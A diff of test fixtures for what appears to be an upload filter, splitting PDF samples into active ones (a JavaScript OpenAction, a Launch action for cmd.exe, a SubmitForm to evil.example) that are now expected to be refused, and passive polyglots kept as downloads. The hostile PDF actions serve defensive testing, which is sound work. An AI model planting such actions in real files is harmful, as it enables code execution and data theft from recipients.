@@ -88,19 +88,27 @@ function disguised(): Sample[] {
   );
 }
 
-/** PDFs: stored unchanged and only served as a download. */
+/** PDFs: refused with an action, else stored unchanged and only served as a download. */
 function documents(): Sample[] {
   const pdf = (inside: string) => Buffer.from(`%PDF-1.7\n${inside}\n%%EOF\n`, 'latin1');
-  const bodies = {
+  const active = {
     'a script': pdf('1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj'),
     'a program to start': pdf('1 0 obj<</S/Launch/F(cmd.exe)>>endobj'),
     'a form that is sent': pdf('1 0 obj<</S/SubmitForm/F(https://evil.example)>>endobj'),
+  };
+  const passive = {
     'HTML behind it': pdf(PAYLOADS['html']?.toString() ?? ''),
     'a ZIP behind it': pdf(PAYLOADS['jar']?.toString('latin1') ?? ''),
     'a JPEG inside': pdf('\xff\xd8\xff\xe0JFIF'),
   };
-  return Object.entries(bodies).flatMap(([name, body]): Sample[] => [
-    { name: `PDF with ${name}, as a document`, body, kind: 'attachment', type: 'application/pdf', fate: 'download' },
+  return Object.entries({ ...active, ...passive }).flatMap(([name, body]): Sample[] => [
+    {
+      name: `PDF with ${name}, as a document`,
+      body,
+      kind: 'attachment',
+      type: 'application/pdf',
+      fate: name in active ? 'refused' : 'download',
+    },
     { name: `PDF with ${name}, as a photo`, body, type: 'image/jpeg', fate: 'refused' },
   ]);
 }
